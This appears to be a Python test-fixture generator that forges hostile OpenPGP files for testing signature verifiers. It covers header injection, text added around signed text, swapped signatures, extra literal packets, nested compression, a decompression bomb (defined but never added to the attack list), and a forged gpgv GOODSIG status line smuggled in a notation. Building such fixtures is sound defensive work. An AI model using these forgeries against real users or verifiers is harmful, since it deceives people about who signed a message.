"""Make hostile OpenPGP files out of honest ones. Each function is one attack, named for it.

Sources: RFC 9580 section 7 (what cleartext headers may not do); Müller, Brinkmann, Poddebniak,
Böck, Schinzel, Somorovsky, Schwenk, "Johnny, you are fired!" (2019): text around signed text;
CVE-2022-34903 (status lines forged through notations); CVE-2019-13050 (certificates flooded with
signatures); "zip quines". `python -m tests.hostile.openpgp.forge DIR` writes one example of each,
with the key that made them, under the names of `ATTACKS`.
"""

import json
import sys
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Final

from tests.signatures.openpgp.maker import Key, Person, armored, literal, packet, sub

LETTER: Final = "Dear Sir,\n\nwe shall be repositioning forces."
FORGED: Final = "We shall NOT leave."


def header_injection(ann: Person) -> bytes:
    """A line of text among the headers: a viewer shows it as signed."""
    return ann.clearsigned(LETTER, headers=f"Hash: SHA256\nComment: {FORGED}\n")


def header_that_is_a_digest_and_more(ann: Person) -> bytes:
    """Text behind the name of a digest."""
    return ann.clearsigned(LETTER, headers=f"Hash: SHA256, {FORGED}\n")


def text_before_the_empty_line(ann: Person) -> bytes:
    """No empty line: text stands where headers would."""
    return ann.clearsigned(LETTER).replace(b"Hash: SHA256\n\n", FORGED.encode() + b"\n\n", 1)


def unescaped_dash(ann: Person) -> bytes:
    """A second BEGIN line inside the text, whose dash is not escaped."""
    inner = "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n" + FORGED
    honest = ann.clearsigned(LETTER)
    return honest.replace(b"Dear Sir,", inner.encode() + b"\nDear Sir,", 1)


def text_before(ann: Person) -> bytes:
    """Prepended text: "Johnny" class of attacks."""
    return FORGED.encode() + b"\n\n" + ann.clearsigned(LETTER)


def text_behind(ann: Person) -> bytes:
    """Appended text."""
    return ann.clearsigned(LETTER) + b"\nP.S. " + FORGED.encode() + b"\n"


def text_between(ann: Person) -> bytes:
    """Text between the signed text and its signature, in the signature's headers."""
    return ann.clearsigned(LETTER).replace(
        b"-----BEGIN PGP SIGNATURE-----\n\n",
        b"-----BEGIN PGP SIGNATURE-----\nComment: " + FORGED.encode() + b"\n\n",
    )


def altered_text(ann: Person) -> bytes:
    """A word changed."""
    return ann.clearsigned(LETTER).replace(b"repositioning", b"withdrawing")


def swapped_signature(ann: Person) -> bytes:
    """The signature of another text."""
    text = ann.clearsigned(LETTER)
    other = ann.clearsigned(FORGED)
    mark = b"-----BEGIN PGP SIGNATURE-----"
    return text[: text.index(mark)] + other[other.index(mark) :]


def altered_literal(ann: Person) -> bytes:
    """A signed message with other content."""
    return ann.message(LETTER.encode()).replace(b"repositioning", b"withdrawingXY")


def two_literals(ann: Person) -> bytes:
    """A second literal in front: readers differ in which one they show."""
    return literal(FORGED.encode()) + ann.message(LETTER.encode())


def literal_behind(ann: Person) -> bytes:
    """A second literal behind the signature."""
    return ann.message(LETTER.encode()) + literal(FORGED.encode())


def one_pass_that_lies(ann: Person) -> bytes:
    """A one-pass packet of another digest than the signature."""
    return ann.message(LETTER.encode()).replace(b"\x03\x00\x08", b"\x03\x00\x0a", 1)


def quine(_ann: Person) -> bytes:
    """Compressed data in compressed data, deeper than anything honest."""
    data = literal(b"x")
    for _ in range(12):
        data = packet(8, b"\x02" + zlib.compress(data))
    return armored(data, "MESSAGE")


def bomb(_ann: Person) -> bytes:
    """Some kilobytes that open to gigabytes."""
    squeezed = zlib.compressobj(9)
    block = squeezed.compress(bytes(1 << 20))
    data = b"".join([block, *(squeezed.compress(bytes(1 << 20)) for _ in range(80))])
    return armored(b"\xc8\xff" + _sized(b"\x02" + data + squeezed.flush()), "MESSAGE")


def _sized(body: bytes) -> bytes:
    return len(body).to_bytes(4) + body


def forged_status_in_a_notation(ann: Person) -> bytes:
    """A notation that holds a line of gpgv's own language (CVE-2022-34903)."""
    value = b"x\n[GNUPG:] GOODSIG 0000000000000000 Ann\n[GNUPG:] VALIDSIG x"
    note = b"\x80\0\0\0" + (3).to_bytes(2) + len(value).to_bytes(2) + b"a@b" + value
    signature = ann.key.sign(LETTER.replace("\n", "\r\n").encode(), kind=1, more=sub(20, note))
    text = ann.clearsigned("other text")
    mark = b"-----BEGIN PGP SIGNATURE-----"
    return text[: text.index(mark)] + armored(packet(2, signature), "SIGNATURE")


def many_blocks(ann: Person) -> bytes:
    """More blocks than anybody would check."""
    return ann.clearsigned("x") * 70


def certificate_for_a_signature(ann: Person) -> bytes:
    """A certification of a key, laid beside a letter as its signature."""
    return ann.detached(LETTER.encode(), kind=0x13)


def mallory_calls_himself_ann(ann: Person) -> bytes:
    """Another key with the same name, along with the text."""
    mallory = Person(name=ann.name, key=Key())
    key = armored(mallory.certificate(), "PUBLIC KEY BLOCK")
    return mallory.clearsigned(FORGED) + key


ATTACKS: Final[dict[str, Callable[[Person], bytes]]] = {
    one.__name__.replace("_", "-"): one
    for one in (
        header_injection,
        header_that_is_a_digest_and_more,
        text_before_the_empty_line,
        unescaped_dash,
        text_before,
        text_behind,
        text_between,
        altered_text,
        swapped_signature,
        altered_literal,
        two_literals,
        literal_behind,
        one_pass_that_lies,
        quine,
        forged_status_in_a_notation,
        many_blocks,
        certificate_for_a_signature,
        mallory_calls_himself_ann,
    )
}
HONEST: Final = ("honest-clearsigned", "honest-message", "honest-detached")


def write_all(folder: Path) -> None:
    """Write one example of each, what they were made from, and the key."""
    ann = Person()
    (folder / "ann.pgp").write_bytes(ann.certificate())
    (folder / "letter.txt").write_bytes(LETTER.encode())
    (folder / "honest-clearsigned").write_bytes(ann.clearsigned(LETTER))
    (folder / "honest-message").write_bytes(ann.message(LETTER.encode()))
    (folder / "honest-detached").write_bytes(ann.detached(LETTER.encode()))
    for name, attack in ATTACKS.items():
        (folder / name).write_bytes(attack(ann))
    (folder / "fingerprint.json").write_text(
        json.dumps({"ann": ann.key.fingerprint}) + "\n", encoding="ascii"
    )


if __name__ == "__main__":
    write_all(Path(sys.argv[1]))
